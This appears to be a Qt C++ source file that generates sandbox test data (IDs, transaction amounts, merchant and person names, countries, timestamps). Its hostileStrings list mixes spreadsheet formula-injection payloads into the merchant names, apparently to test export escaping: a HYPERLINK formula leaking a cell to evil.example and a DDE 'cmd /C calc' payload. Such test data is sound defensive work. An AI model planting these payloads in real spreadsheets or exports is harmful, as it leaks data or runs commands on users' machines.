#include "SandboxData.h"

#include <QTimeZone>

QString SandboxData::hex(int length)
{
    static const char alphabet[] = "0123456789abcdef";
    QString s;
    s.reserve(length);
    for (int i = 0; i < length; ++i)
        s += QLatin1Char(alphabet[m_rng.bounded(16)]);
    return s;
}

QString SandboxData::uuid()
{
    const QString h = hex(32);
    return h.left(8) + u'-' + h.mid(8, 4) + u'-' + h.mid(12, 4) + u'-' + h.mid(16, 4) + u'-' +
           h.mid(20);
}

QString SandboxData::digits(int length)
{
    QString s;
    for (int i = 0; i < length; ++i)
        s += QChar(u'0' + int(m_rng.bounded(10)));
    return s;
}

Money SandboxData::spend(int lowDollars, int highDollars)
{
    // Squaring a uniform value skews towards small purchases.
    const qint64 span = qint64(highDollars - lowDollars) * 100;
    const qint64 r = qint64(m_rng.bounded(10000));
    const qint64 cents =
        qint64(lowDollars) * 100 + span * r * r / (10000LL * 10000LL) + qint64(m_rng.bounded(100));
    return Money::fromMinorUnits(qMax<qint64>(cents, 1), 2);
}

const QStringList &SandboxData::hostileStrings()
{
    static const QStringList list = {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Refund\")"),
        QStringLiteral("+SUM(1,2)"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\tTabbed Vendor"),
        QStringLiteral("Smith, Jones & Partners, LLC"),
        QStringLiteral("The \"Best\" Coffee"),
        QStringLiteral("Line one\nLine two"),
        QStringLiteral("Carriage\r\nReturn Ltd"),
    };
    return list;
}

const QStringList &SandboxData::merchants()
{
    static const QStringList list = [] {
        QStringList l = {
            QStringLiteral("FACEBK *ADS 4KXZ"),    QStringLiteral("GOOGLE *ADS1234"),
            QStringLiteral("AMAZON WEB SERVICES"), QStringLiteral("Shopify* 18842"),
            QStringLiteral("KLAVIYO INC."),        QStringLiteral("FEDEX 7723"),
            QStringLiteral("UPS*1Z999AA1"),        QStringLiteral("USPS PO 0123"),
            QStringLiteral("TIKTOK ADS"),          QStringLiteral("TABOOLA.COM"),
            QStringLiteral("SNAP INC ADS"),        QStringLiteral("Bob's shop"),
            QStringLiteral("Slack Technologies"),  QStringLiteral("Zoom.us"),
            QStringLiteral("Notion Labs"),         QStringLiteral("GitHub, Inc."),
            QStringLiteral("DELTA AIR 0062"),      QStringLiteral("Uber *Trip"),
            QStringLiteral("Café Müller"),         QStringLiteral("Zoë's Bakery"),
            QStringLiteral("東京ストア 渋谷"),     QStringLiteral("Ελληνικό Καφενείο"),
            QStringLiteral("متجر القاهرة"),        QStringLiteral("Москва Маркет"),
        };
        l += hostileStrings();
        return l;
    }();
    return list;
}

const QStringList &SandboxData::firstNames()
{
    static const QStringList list = {
        QStringLiteral("Billy"), QStringLiteral("Sage"),  QStringLiteral("Amara"),
        QStringLiteral("Jonas"), QStringLiteral("Mei"),   QStringLiteral("Lucía"),
        QStringLiteral("Omar"),  QStringLiteral("Priya"), QStringLiteral("Zoë"),
        QStringLiteral("Kenji"), QStringLiteral("Noah"),  QStringLiteral("Ingrid"),
    };
    return list;
}

const QStringList &SandboxData::lastNames()
{
    static const QStringList list = {
        QStringLiteral("Joel"),   QStringLiteral("Smith"),  QStringLiteral("Okafor"),
        QStringLiteral("Müller"), QStringLiteral("Chen"),   QStringLiteral("García"),
        QStringLiteral("Haddad"), QStringLiteral("Patel"),  QStringLiteral("O'Brien"),
        QStringLiteral("Tanaka"), QStringLiteral("Larsen"), QStringLiteral("Nakamura"),
    };
    return list;
}

const QStringList &SandboxData::countries()
{
    static const QStringList list = {
        QStringLiteral("USA"), QStringLiteral("USA"), QStringLiteral("USA"), QStringLiteral("US"),
        QStringLiteral("GBR"), QStringLiteral("DEU"), QStringLiteral("IE"),  QStringLiteral("JPN"),
        QStringLiteral("CAN"), QStringLiteral("FR")};
    return list;
}

namespace SandboxJson {

QJsonValue number(const Money &amount)
{
    return QJsonValue(amount.toString().toDouble());
}

QString isoMicros(const QDateTime &utc)
{
    return utc.toUTC().toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss.zzz000Z"));
}

QString spaced(const QDateTime &utc)
{
    return utc.toUTC().toString(QStringLiteral("yyyy-MM-dd HH:mm:ss"));
}

QDateTime anchor()
{
    const QDateTime now = QDateTime::currentDateTimeUtc();
    return QDateTime(now.date(), QTime(now.time().hour(), 0), QTimeZone::utc());
}

} // namespace SandboxJson
